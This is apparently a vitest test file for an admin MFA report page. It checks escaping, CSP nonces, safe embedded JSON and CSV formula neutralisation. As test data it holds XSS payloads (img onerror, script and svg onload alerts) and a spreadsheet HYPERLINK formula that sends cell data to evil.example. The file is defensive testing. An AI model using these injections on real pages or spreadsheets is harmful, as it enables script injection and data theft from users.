// The report page as HTML (no browser): content from the demo tenant, escaping of tenant strings, the CSP
// contract (nonce on every script and style, no inline handlers or style attributes, nothing external)
// and chart data that is safe inside <script>.
import { readFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import { describe, expect, it } from 'vitest';
import type { FindingsDay, ReportPageModel, TrendPoint } from '../../src/app/report-page.js';
import { snapshotFromFixture } from '../../devkit/bench/snapshot.js';
import { DEFAULT_EVALUATION_OPTIONS, evaluate } from '../../src/core/evaluate.js';
import { parseTenantFixtureText } from '../../devkit/fixture/format.js';
import type { Report, Verdict } from '../../src/core/report.js';
import { gapWords, jsonForScript, scriptText } from '../../src/report/format.js';
import { type ChartData, chartData, renderReportPage } from '../../src/report/render.js';
import { type Acknowledgement, applyAcknowledgements, materialKeys } from '../../src/core/acceptance.js';
import { reportNumbers } from '../../src/core/numbers.js';
import { proposeRemediation } from '../../src/core/remediation.js';
import { toCsv } from '../../src/report/csv.js';
import { exportTables } from '../../src/report/export.js';

const NONCE = 'dGVzdC1ub25jZS0xMjM0NQ==';
const XSS_NAME = '<img src=x onerror=alert(1)>';
const FORMULA_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Carlos")';
const XSS_REASON = '<script>alert("reason")</script> accepted';
const XSS_POLICY = '<script>alert("policy")</script> CA001';
const XSS_GROUP = '<svg onload=alert(4)> SG-Migration';
const XSS_LABEL = '</script><script>alert(2)</script>\u2028<!--';
const CHART_STUB = '/* chart.js stand-in */ window.Chart = undefined; var s = "</script><script>alert(3)</script>";';
const NOW = '2026-11-25T10:05:00Z';

type Json = Record<string, unknown>;

/** The demo tenant, with one admin's display name and one policy's name turned into HTML. */
function demoReport(): Report {
  const text = readFileSync(fileURLToPath(new URL('../../devkit/fixtures/demo-tenant.json', import.meta.url)), 'utf8');
  const json = JSON.parse(text) as Json & { users: Json[]; conditionalAccessPolicies: Json[]; settings: Record<string, string>; referenceTime: string };
  const victim = json.users.find((u) => u.userPrincipalName === 'svc-exo-automation@contoso-demo.example');
  if (!victim) throw new Error('demo fixture changed: svc-exo-automation is gone');
  victim.displayName = XSS_NAME;
  const formula = json.users.find((u) => u.userPrincipalName === 'carlos.ruiz@contoso-demo.example');
  if (!formula) throw new Error('demo fixture changed: carlos.ruiz is gone');
  formula.displayName = FORMULA_NAME;
  const policy = json.conditionalAccessPolicies.find((p) => String(p.displayName).startsWith('CA001'));
  if (!policy) throw new Error('demo fixture changed: CA001 is gone');
  policy.displayName = XSS_POLICY;
  const group = (json.groups as Json[]).find((g) => g.displayName === 'SG-Migration-ServiceAccounts');
  if (!group) throw new Error('demo fixture changed: SG-Migration-ServiceAccounts is gone');
  group.displayName = XSS_GROUP;
  const fixture = parseTenantFixtureText(JSON.stringify(json), 'demo-tenant.json');
  const snapshot = snapshotFromFixture(fixture, json.referenceTime);
  const excludedAccounts = (json.settings.MONITOR_EXCLUDED_ACCOUNTS ?? '').split(',').map((s) => s.trim()).filter(Boolean);
  const options = { ...DEFAULT_EVALUATION_OPTIONS, adminRoles: { mode: 'core' as const, roleIds: [] }, excludedAccounts, now: NOW };
  const report = evaluate(snapshot, options);
  // As the app serves it: with an accepted risk, the verified fixes and the one set of numbers.
  const accepted = report.findings.find((f) => f.type === 'admin-unprotected') as Report['findings'][number];
  const ack: Acknowledgement = { fingerprint: accepted.fingerprint, type: accepted.type, subjectId: accepted.subjectId, subjectName: accepted.subjectName ?? null, reason: XSS_REASON, owner: XSS_NAME, acceptedBy: 'alice@contoso-demo.example', acceptedAt: NOW, until: '2026-12-31T00:00:00.000Z', material: materialKeys(accepted, report) };
  applyAcknowledgements(report, [ack], NOW);
  report.remediation = proposeRemediation(snapshot, options, report);
  report.numbers = reportNumbers(report);
  return report;
}

function trend(n: number): TrendPoint[] {
  return Array.from({ length: n }, (_, i) => ({
    time: new Date(Date.parse(NOW) - (n - 1 - i) * 3_600_000).toISOString(),
    admins: 23,
    protected: 5 + (i % 2),
    partial: 13,
    unprotected: 3 - (i % 2),
    excluded: 2,
    unknown: 0,
  }));
}

function days(n: number, labelOfLast?: string): FindingsDay[] {
  return Array.from({ length: n }, (_, i) => ({
    day: i === n - 1 && labelOfLast ? labelOfLast : new Date(Date.parse(NOW) - (n - 1 - i) * 86_400_000).toISOString().slice(0, 10),
    high: i % 3 === 0 ? 1 : 0,
    medium: i % 2,
    low: 2,
  }));
}

function model(report: Report, overrides: Partial<ReportPageModel> = {}): ReportPageModel {
  return {
    report,
    trend: trend(6),
    findingsPerDay: days(7, XSS_LABEL),
    recentFindings: report.findings.slice(0, 5).map((f, i) => ({ ...f, time: new Date(Date.parse(NOW) - i * 60_000).toISOString(), event: i === 4 ? 'resolved' : 'opened' })),
    policyChanges: [
      {
        time: '2026-11-25T09:00:00Z',
        kind: 'caPolicy',
        id: 'p1',
        name: XSS_POLICY,
        change: 'changed',
        summary: `policy '${XSS_POLICY}' changed`,
        diff: ['conditions.users.excludeGroups: +<b>evil</b>', 'state: "enabled" → "disabled"'],
      },
    ],
    alerts: [{ createdAt: '2026-11-25T09:01:00Z', status: 'sent', subject: `[admin-mfa-monitor] ${XSS_NAME}`, lastError: null }],
    collectors: [
      { collector: 'roles', status: 'succeeded', endedAt: '2026-11-25T10:00:00Z', error: null },
      { collector: 'policies', status: 'succeeded', endedAt: '2026-11-25T10:00:00Z', error: null },
      { collector: 'activations', status: 'succeeded', endedAt: '2026-11-25T10:00:00Z', error: null },
      { collector: 'signins', status: 'failed', endedAt: '2026-11-25T10:00:00Z', error: `Graph 403 <i>${XSS_NAME}</i>` },
      { collector: 'evaluate', status: 'succeeded', endedAt: '2026-11-25T10:01:00Z', error: null },
    ],
    days: 30,
    graphBaseUrl: 'https://graph.microsoft.com',
    ...overrides,
  };
}

function escaped(text: string): string {
  return text.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;').replace(/'/g, '&#39;');
}

/** The markup without the contents of <script> and <style> elements. */
function markup(html: string): string {
  return html.replace(/(<script\b[^>]*>)[\s\S]*?(<\/script>)/gi, '$1$2').replace(/(<style\b[^>]*>)[\s\S]*?(<\/style>)/gi, '$1$2');
}

interface Tag {
  name: string;
  attrs: Array<[string, string]>;
}

/** Every start tag with its attributes (the renderer always double-quotes attribute values). */
function tags(html: string): Tag[] {
  const out: Tag[] = [];
  for (const m of markup(html).matchAll(/<([a-zA-Z][\w-]*)((?:\s+[^\s=>/]+(?:="[^"]*")?)*)\s*\/?>/g)) {
    const attrs: Array<[string, string]> = [];
    for (const a of (m[2] ?? '').matchAll(/\s+([^\s=>/]+)(?:="([^"]*)")?/g)) attrs.push([(a[1] ?? '').toLowerCase(), a[2] ?? '']);
    out.push({ name: (m[1] ?? '').toLowerCase(), attrs });
  }
  return out;
}

function chartJson(html: string): string {
  const m = /<script type="application\/json" id="report-data" nonce="[^"]*">([\s\S]*?)<\/script>/.exec(html);
  if (!m) throw new Error('no #report-data script');
  return m[1] ?? '';
}

const report = demoReport();
const html = renderReportPage(model(report), { nonce: NONCE, chartJs: CHART_STUB });

describe('report page content (demo tenant)', () => {
  it('is a complete document titled with the tenant', () => {
    expect(html.startsWith('<!DOCTYPE html>')).toBe(true);
    expect(html).toContain('<html lang="en">');
    expect(html).toContain('<title>Admin MFA report — Contoso Demo</title>');
    expect(html).toContain(report.tenantId);
  });

  it('lists every admin by UPN, once in the admins table, with its verdict', () => {
    expect(report.admins.length).toBeGreaterThan(10);
    for (const a of report.admins) {
      expect(html).toContain(escaped(a.userPrincipalName ?? a.id));
      const row = new RegExp(`<tr id="admin-${a.id}" data-verdict="${a.verdict}"`);
      expect(html).toMatch(row);
    }
    for (const a of report.potentialAdmins) expect(html).toContain(escaped(a.userPrincipalName ?? a.id));
    for (const w of report.workloadAdmins) expect(html).toContain(escaped(w.displayName ?? w.id));
  });

  it('shows the summary counts in the KPI cards and verdict chips', () => {
    const s = report.summary;
    expect(s.unprotected).toBeGreaterThan(0);
    const kpi = (key: string) => new RegExp(`data-kpi="${key}"><div class="label">[^<]*</div><div class="value">(\\d+)`).exec(html)?.[1];
    for (const key of ['admins', 'protected', 'partial', 'unprotected', 'excluded', 'unknown', 'registered'] as const) expect(kpi(key)).toBe(String(s[key]));
    expect(html).toContain(`data-kpi="score"><div class="v num">${Math.round(s.secureScoreEstimate * 100) / 100}<small> / 10`);
    for (const note of s.secureScoreNotes) expect(html).toContain(escaped(note));
    for (const v of ['protected', 'partial', 'unprotected', 'excluded', 'unknown'] as Verdict[]) {
      expect(html.match(new RegExp(`<tr id="admin-[^"]+" data-verdict="${v}"`, 'g'))?.length ?? 0).toBe(s[v]);
      expect(html).toMatch(new RegExp(`data-verdict-chip="${v}"[^>]*>.*?<span class="c">${s[v]}</span>`));
    }
  });

  it('puts unprotected and partial admins under "Needs attention" with their gaps in plain words', () => {
    const section = /<section id="attention"[\s\S]*?<\/section>/.exec(html)?.[0] ?? '';
    for (const a of report.admins.filter((x) => x.verdict === 'unprotected' || x.verdict === 'partial')) {
      expect(section).toContain(`data-admin="${a.id}"`);
    }
    for (const a of report.admins.filter((x) => x.verdict === 'unprotected')) {
      // R-EXPLAIN-1: the short headline, and the first reasons of the full list.
      const gap = a.gaps[0];
      expect(gap?.headline).toMatch(/^No enabled policy requires MFA/);
      expect(section).toContain(escaped(gap?.headline ?? ''));
      expect(section).toContain(escaped(gap?.reasons?.[0] ?? '').replace(/^p/, 'P'));
    }
    expect(section).not.toContain('data-admin="' + report.admins.find((x) => x.verdict === 'protected')?.id);
  });

  it('shows every gap and every one of its reasons in the admins table (R-EXPLAIN-2: nothing dropped)', () => {
    for (const a of report.admins) {
      for (const g of a.gaps) {
        expect(html).toContain(escaped(g.headline ?? ''));
        for (const r of g.reasons ?? []) expect(html).toContain(escaped(r.charAt(0).toUpperCase() + r.slice(1)));
        // The summary's "N more" are in the list too.
        const more = Number(/; (\d+) more[;)]/.exec(g.summary)?.[1] ?? 0);
        expect(g.reasons?.length ?? 0).toBeGreaterThanOrEqual(more);
      }
    }
  });

  it('names covering and would-cover policies, lists policies, findings, changes, alerts and collectors', () => {
    const covered = report.admins.find((a) => a.coveringPolicyIds.length > 0 && a.wouldCoverIfEnabled.length > 0);
    expect(covered).toBeDefined();
    const row = new RegExp(`<tr id="admin-${covered?.id}"[\\s\\S]*?</tr>`).exec(html)?.[0] ?? '';
    for (const id of covered?.coveringPolicyIds ?? []) expect(row).toContain(escaped(report.policies.find((p) => p.id === id)?.displayName ?? id));
    for (const p of covered?.wouldCoverIfEnabled ?? []) expect(row).toContain(escaped(p.displayName));
    for (const p of report.policies) expect(html).toContain(escaped(p.displayName));
    for (const type of new Set(report.findings.map((f) => f.type))) expect(html).toContain(`data-finding-type="${type}"`);
    expect(html).toContain('<b>conditions.users.excludeGroups</b>: +&lt;b&gt;evil&lt;/b&gt;');
    expect(html).toContain('id="alerts-table"');
    expect(html).toMatch(/Sign-ins<\/b>[\s\S]*?class="badge failed">Failed/);
    expect(html).toContain('Some data is missing or out of date');
  });

  it('shows an Exemptions section: each exclusion with its controllers and their verdicts; each admin row links to the exclusions that reach it', () => {
    const section = /<section id="exemptions"[\s\S]*?<\/section>/.exec(html)?.[0] ?? '';
    expect(section).toContain('<h2 id="exemptions-h">Exemptions');
    for (const x of report.exemptions?.exclusions ?? []) expect(section).toContain(`data-exclusion="${escaped(x.key)}"`);
    // The owner of CA-Exclude-ServiceAccounts who is not protected, with the badge of their verdict.
    const card = new RegExp(`<div class="card pad" id="exemption-group_[^"]*" data-exclusion="group:[^"]*">\\s*<h3>Group: CA-Exclude-ServiceAccounts[\\s\\S]*?</div>\\n?</div>`).exec(section)?.[0] ?? section;
    expect(card).toMatch(/svc-exo-automation@contoso-demo\.example<\/b>[\s\S]*?class="badge unprotected">/);
    expect(card).toContain('client secret');
    expect(section).toContain('id="policy-editors"');
    // The break-glass account's row links to the exclusion group it is in now.
    const bg = report.admins.find((a) => a.userPrincipalName === 'breakglass-01@contoso-demo.example');
    const row = new RegExp(`<tr id="admin-${bg?.id}"[\\s\\S]*?</tr>`).exec(html)?.[0] ?? '';
    expect(row).toMatch(/<a href="#exemption-group_[^"]+">Group CA-Exclude-BreakGlass<\/a> <span class="tag permanent">excluded now<\/span>/);
    expect(html).toContain('<a href="#exemptions">Exemptions');
  });

  it('has a labelled filter with one chip per verdict and accessible charts', () => {
    expect(html).toMatch(/<label class="visually-hidden" for="admin-filter">/);
    expect(html).toContain('<input id="admin-filter" type="search"');
    expect(html.match(/data-verdict-chip="/g)).toHaveLength(6);
    expect(html).toMatch(/<canvas id="chart-verdicts" role="img" aria-label="Admins by verdict over time\. 6 evaluation runs/);
    expect(html).toMatch(/<canvas id="chart-findings" role="img" aria-label="Findings raised per day by severity\./);
    expect(html).toMatch(/<th scope="col">Verdict<\/th>/);
  });

  it('falls back to text when there are fewer than two points', () => {
    const sparse = renderReportPage(model(report, { trend: trend(1), findingsPerDay: days(1) }), { nonce: NONCE, chartJs: CHART_STUB });
    expect(sparse).not.toContain('<canvas');
    expect(sparse).toContain('One evaluation run so far');
    expect(sparse).toContain('The trend appears after the second evaluation run.');
    expect(sparse).toContain('The chart appears once there are two days of history.');
    const empty = renderReportPage(model(report, { trend: [], findingsPerDay: [], recentFindings: [], policyChanges: [], alerts: [] }), { nonce: NONCE, chartJs: CHART_STUB });
    expect(empty).toContain('No evaluation runs recorded yet.');
    expect(empty).toContain('No policy changes in the last 30 days.');
    expect(JSON.parse(chartJson(empty))).toEqual({ trend: null, findings: null });
  });
});

describe('report page safety', () => {
  it('never lets a tenant string become markup', () => {
    expect(html).not.toContain(XSS_NAME);
    expect(html).not.toContain('<img');
    expect(html).not.toContain('alert("policy")</script>');
    expect(html).toContain(escaped(XSS_NAME));
    expect(html).toContain(escaped(XSS_POLICY));
    expect(html).not.toContain('<svg onload');
    expect(html).toContain(escaped(XSS_GROUP));
    expect(html).not.toContain('<b>evil</b>');
    expect(html).not.toContain('<i><img');
  });

  it('puts the nonce on every <script> and <style>, and has exactly the five scripts and one style it means to', () => {
    const t = tags(html);
    const scripts = t.filter((x) => x.name === 'script');
    const styles = t.filter((x) => x.name === 'style');
    // Chart data, download rows, Chart.js, the CSV function, the page's own script.
    expect(scripts).toHaveLength(5);
    expect(styles).toHaveLength(1);
    for (const s of [...scripts, ...styles]) expect(s.attrs).toContainEqual(['nonce', NONCE]);
    // The stand-in bundle says "</script>" in a string: it must not end its element early.
    expect(html.match(/<\/script>/g)).toHaveLength(5);
    expect(html).toContain('<\\/script><script>alert(3)<\\/script>');
  });

  it('has no inline event handlers, style attributes or external resources', () => {
    const t = tags(html);
    expect(t.length).toBeGreaterThan(500);
    for (const tag of t) {
      for (const [name, value] of tag.attrs) {
        expect(name, `<${tag.name} ${name}>`).not.toMatch(/^on/);
        expect(name, `<${tag.name} ${name}>`).not.toBe('style');
        if (['src', 'href', 'action', 'srcset', 'poster', 'formaction', 'xlink:href', 'background'].includes(name)) {
          expect(value, `<${tag.name} ${name}="${value}">`).not.toMatch(/^\s*(?:[a-z][\w+.-]*:|\/\/)/i);
        }
      }
      expect(['link', 'img', 'iframe', 'object', 'embed', 'base', 'form']).not.toContain(tag.name);
    }
    const css = /<style[^>]*>([\s\S]*?)<\/style>/.exec(html)?.[1] ?? '';
    expect(css).not.toMatch(/url\(|@import|https?:/i);
    expect(markup(html)).not.toMatch(/\b(?:src|href)="(?:https?:)?\/\//i);
  });

  it('embeds chart data as JSON that cannot close its <script> or break a parser', () => {
    const raw = chartJson(html);
    expect(raw).not.toMatch(/[<>&\u2028\u2029]/);
    const data = JSON.parse(raw) as ChartData;
    expect(data.findings?.labels.at(-1)).toBe(XSS_LABEL);
    expect(data).toEqual(chartData(model(report)));
    expect(data.trend?.labels).toHaveLength(6);
    expect(data.trend?.series.map((s) => s.key)).toEqual(['protected', 'partial', 'unprotected', 'unknown', 'excluded']);
    expect(data.trend?.series.find((s) => s.key === 'protected')?.values).toEqual([5, 6, 5, 6, 5, 6]);
    expect(data.findings?.series.map((s) => s.key)).toEqual(['high', 'medium', 'low']);
    expect(jsonForScript({ a: '</script>\u2028&' })).toBe('{"a":"\\u003c/script\\u003e\\u2028\\u0026"}');
    expect(scriptText('x("</SCRIPT>"); y("<!--")')).toBe('x("<\\/SCRIPT>"); y("<\\!--")');
  });
});

describe('gap wording', () => {
  it('splits a gap into what is missing and why, keeping parentheses inside names', () => {
    const w = gapWords(
      "no enabled policy requires MFA for this admin (policy 'CA001' excludes this admin through group 'X' (nested membership through group 'Y'); policy 'CA007 Block (old)' is disabled; 2 more)",
    );
    expect(w.headline).toBe('No enabled policy requires MFA for this admin');
    expect(w.reasons).toEqual(["policy 'CA001' excludes this admin through group 'X' (nested membership through group 'Y')", "policy 'CA007 Block (old)' is disabled"]);
    expect(w.more).toBe(2);
  });

  it('keeps a summary without a reason list whole', () => {
    expect(gapWords('no MFA when signing in to Office 365 (Exchange Online)')).toEqual({ headline: 'No MFA when signing in to Office 365 (Exchange Online)', reasons: [], more: 0 });
    expect(gapWords('no MFA at sign-in risk low')).toEqual({ headline: 'No MFA at sign-in risk low', reasons: [], more: 0 });
  });
});

describe('report page: fixes, accepted risks, downloads (issue 18)', () => {
  it('lists every chosen fix with its exact request in a copyable block, escaped', () => {
    const section = /<section id="fixes"[\s\S]*?<\/section>/.exec(html)?.[0] ?? '';
    const chosen = report.remediation?.proposals.filter((p) => p.closes.length > 0) ?? [];
    expect(chosen.length).toBeGreaterThan(0);
    for (const p of chosen) {
      expect(section).toContain(`id="${p.id}"`);
      for (const [i, r] of p.requests.entries()) {
        expect(section).toContain(`data-copy="req-${p.id}-${i}"`);
        expect(section).toContain(`<pre id="req-${p.id}-${i}"><code>${escaped(`${r.method} https://graph.microsoft.com/v1.0${r.path}`)}`);
      }
    }
    expect(section).toContain(escaped(XSS_POLICY));
    expect(section).not.toContain(XSS_POLICY);
    // Every gap with a fix links to it.
    for (const a of report.admins) for (const g of a.gaps) if (g.fix?.proposalId) expect(html).toContain(`href="#${g.fix.proposalId}"`);
  });

  it('shows accepted risks apart: not in the open findings, listed with owner, expiry and reason, escaped', () => {
    const ack = report.acknowledgements?.[0];
    expect(ack?.state).toBe('active');
    const accepted = /<section id="accepted"[\s\S]*?<\/section>/.exec(html)?.[0] ?? '';
    expect(accepted).toContain(`data-ack="${ack?.fingerprint}"`);
    expect(accepted).toContain(escaped(XSS_REASON));
    expect(accepted).not.toContain(XSS_REASON);
    const findings = /<section id="findings"[\s\S]*?<\/section>/.exec(html)?.[0] ?? '';
    expect(findings).not.toContain(`id: ${ack?.fingerprint}`);
    expect(findings).toContain(`<span class="count">${report.numbers?.findings.open}</span>`);
  });

  it('embeds the download rows safely, and their CSV neutralises formulas', () => {
    const m = /<script type="application\/json" id="export-data" nonce="[^"]*">([\s\S]*?)<\/script>/.exec(html);
    const data = JSON.parse(m?.[1] ?? '{}') as Record<string, { columns: string[]; rows: Array<Record<string, unknown>> }>;
    expect(Object.keys(data)).toEqual(['admins', 'gaps', 'findings', 'exemptions']);
    expect(data.admins?.rows).toHaveLength(report.admins.length);
    expect(data.gaps?.rows).toHaveLength(report.admins.reduce((n, a) => n + a.gaps.length, 0));
    expect(m?.[1]).not.toContain('<script>');
    const csv = toCsv(data.admins?.columns ?? [], data.admins?.rows ?? []);
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""Carlos"")"`);
    expect(csv).not.toMatch(/(^|,)=HYPERLINK/m);
    // The page's script runs this same function.
    expect(html).toContain(`var toCsv = ${scriptText(toCsv.toString())};`);
  });

  it('exemptions: every policy exclusion of an admin (R-EXCL-3), every break-glass account (R-EXCL-1) and every accepted risk', () => {
    const rows = exportTables(report).find((t) => t.name === 'exemptions')?.rows ?? [];
    const kinds = (kind: string) => rows.filter((r) => r.kind === kind);
    const exclusions = [...report.admins, ...report.potentialAdmins].flatMap((a) => (a.exclusions ?? []).map((x) => ({ a, x })));
    expect(exclusions.length).toBeGreaterThan(0);
    expect(kinds('policy exclusion')).toHaveLength(exclusions.length);
    // Each says how, as the gap reasons do, and names the policy.
    for (const { a, x } of exclusions) expect(rows).toContainEqual(expect.objectContaining({ kind: 'policy exclusion', subjectId: a.id, policyId: x.policyId, detail: x.how }));
    expect(kinds('policy exclusion').every((r) => String(r.detail).startsWith('excludes '))).toBe(true);
    expect(kinds('break-glass account').map((r) => r.subjectId).sort()).toEqual(report.admins.filter((a) => a.verdict === 'excluded').map((a) => a.id).sort());
    expect(kinds('break-glass account').length).toBeGreaterThan(0);
    expect(kinds('accepted risk')).toEqual([expect.objectContaining({ fingerprint: report.acknowledgements?.[0]?.fingerprint, reason: XSS_REASON, owner: XSS_NAME, state: 'active' })]);
  });
});

describe('R-EXCL-3 exclusions per admin', () => {
  it('names the enabled MFA policies that exclude an admin, with the role state and how', () => {
    // The demo's break-glass accounts are excluded from the admins' policies through their group.
    const excluded = report.admins.filter((a) => a.verdict === 'excluded');
    expect(excluded.length).toBeGreaterThan(0);
    for (const a of excluded) {
      expect(a.exclusions?.length, a.userPrincipalName ?? a.id).toBeGreaterThan(0);
      for (const x of a.exclusions ?? []) {
        const policy = report.policies.find((p) => p.id === x.policyId);
        expect(policy?.state).toBe('enabled');
        expect(x.how).toMatch(/^excludes /);
      }
    }
    // An admin nothing excludes has none.
    expect(report.admins.some((a) => a.verdict === 'protected' && a.exclusions?.length === 0)).toBe(true);
  });
});
